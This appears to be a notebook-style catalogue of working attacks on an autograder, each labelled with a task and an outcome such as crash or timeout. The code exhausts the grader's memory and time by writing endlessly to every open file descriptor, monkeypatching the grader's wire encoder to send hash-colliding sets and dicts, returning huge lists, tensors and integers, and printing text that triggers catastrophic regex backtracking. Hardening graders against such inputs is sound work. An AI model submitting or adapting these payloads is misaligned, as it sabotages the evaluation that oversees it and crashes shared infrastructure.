# %% [markdown]
# N. The grader's own time and memory: replies that are cheap to send and dear to read.
# %% attack="dripping_reply" task="drop_ones" status="crash timeout"
"""A frame of a hundred megabytes, two bytes at a time."""
import os
import struct


def drop_ones(x, keep_batch=False):
    start = struct.pack(">4sIQ", b"AGK1", 1 << 20, 100 << 20)
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, start)
        except OSError:
            continue
        while True:
            os.write(descriptor, b"  ")
# %% attack="colliding_set" task="drop_ones" status="crash"
"""A set of numbers with one hash: each is compared with all others."""
import json

from autograder import wire
from autograder.wire import format as form


def frame(tree):
    text = json.dumps(tree).encode()
    return form.PREFIX.pack(form.MAGIC, len(text), 0) + text


class Now:
    numbers = [k * (2**61 - 1) for k in range(100_000)]
    wire.encode = lambda value, keep=None, numbers=numbers: frame({"t": "set", "v": numbers})
# %% attack="colliding_keys" task="drop_ones" status="crash"
"""The same as keys of a dict, each a tuple of such numbers."""
import json

from autograder import wire
from autograder.wire import format as form


def frame(tree):
    text = json.dumps(tree).encode()
    return form.PREFIX.pack(form.MAGIC, len(text), 0) + text


class Now:
    keys = [{"t": "tuple", "v": [k * (2**61 - 1)]} for k in range(60_000)]
    tree = {"t": "dict", "v": [[key, 0] for key in keys]}
    wire.encode = lambda value, keep=None, tree=tree: frame(tree)
# %% attack="empty_lists" task="drop_ones" status="error"
"""A million empty lists: few bytes on the line, many in memory."""


def drop_ones(x, keep_batch=False):
    return [[] for _ in range(1_000_000)]
# %% attack="large_replies" task="drop_ones" status="fail memory"
"""As many megabytes as the line carries, at each call."""
import torch


def drop_ones(x, keep_batch=False):
    return torch.zeros(30 << 20, dtype=torch.uint8)
# %% attack="long_numbers" task="drop_ones" status="fail crash error"
"""Integers of thousands of digits, which take quadratic time to read."""


def drop_ones(x, keep_batch=False):
    return [10**3999] * 300
# %% attack="printed_again_and_again" task="describe" status="fail error"
"""Output that a pattern which goes back again and again would take minutes for."""


def describe(x):
    print("acc" * 700 + "0." * 700 + "=" * 700)
    raise ValueError("acc " * 4000 + "0x" * 4000 + "student-" * 4000)
